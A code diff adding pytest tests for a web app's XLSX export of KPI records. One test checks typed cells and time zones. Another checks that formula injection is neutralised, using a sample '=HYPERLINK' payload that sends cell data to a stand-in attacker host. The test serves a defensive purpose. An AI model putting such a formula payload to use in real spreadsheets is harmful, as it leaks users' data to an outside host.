@@ -4,8 +4,10 @@ from __future__ import annotations
 
 import csv
 import io
+from datetime import datetime
 
 import pytest
+from openpyxl import load_workbook
 
 
 def kpi(client, url: str) -> dict:
@@ -103,6 +105,44 @@ def test_csv_export_holds_every_record(company):
         ("r2", "Bruno Bianchi"),
         ("r3", "Carla Verdi"),
     }
+
+
+def test_xlsx_export_has_the_csv_records_as_typed_cells(company):
+    """The XLSX holds the CSV's records, cell by cell, with numbers as numbers and times as
+    date cells in the company's zone (o1 created 10:00 UTC = 11:00 in Rome)."""
+    url = "/api/kpi/new_opportunities/records.{}?period=2026-03"
+    response = company["admin"].get(url.format("xlsx"))
+    assert response.status_code == 200
+    assert response.headers["content-type"].startswith("application/vnd.openxmlformats")
+    assert 'filename="new_opportunities_2026-03.xlsx"' in response.headers["content-disposition"]
+    sheet = load_workbook(io.BytesIO(response.content)).active
+    header = [c.value for c in sheet[1]]
+    rows = sheet.iter_rows(min_row=2)
+    cells = {row[0].value: dict(zip(header, row, strict=True)) for row in rows}
+    table = list(csv.reader(io.StringIO(company["admin"].get(url.format("csv")).text)))
+    assert header == table[0]  # the same columns, headed in words
+    assert sorted(cells) == sorted(r[0] for r in table[1:]) == ["o1", "o2"]
+    o1 = cells["o1"]
+    assert o1["Amount"].value == 10_000 and o1["Amount"].data_type == "n"
+    assert o1["Owner"].value == "Anna Rossi"
+    assert o1["Created"].value == datetime(2026, 3, 10, 11, 0) and o1["Created"].is_date
+    # A calendar date stays the stored day (no zone shift).
+    assert o1["Expected close"].value == datetime(2026, 3, 31) and o1["Expected close"].is_date
+    assert cells["o2"]["Closed"].value is None  # still open: an empty cell, not "NaT"
+
+
+def test_xlsx_export_never_writes_a_formula(app, clients, web_warehouse):
+    from tests.web.data import ACCOUNTS, frame, load_company
+
+    load_company(web_warehouse)
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"Alfa")'
+    web_warehouse.load({"accounts": frame("accounts", [dict(ACCOUNTS[0], name=evil)])})
+    response = clients["admin"].get("/api/kpi/new_opportunities/records.xlsx?period=2026-03")
+    sheet = load_workbook(io.BytesIO(response.content)).active
+    header = [c.value for c in sheet[1]]
+    (o1,) = [r for r in sheet.iter_rows(min_row=2) if r[0].value == "o1"]
+    account = o1[header.index("Account")]
+    assert account.value == evil and account.data_type == "s"  # text, exactly as imported
 
 
 def test_unknown_kpi_is_404_on_page_and_api(company):
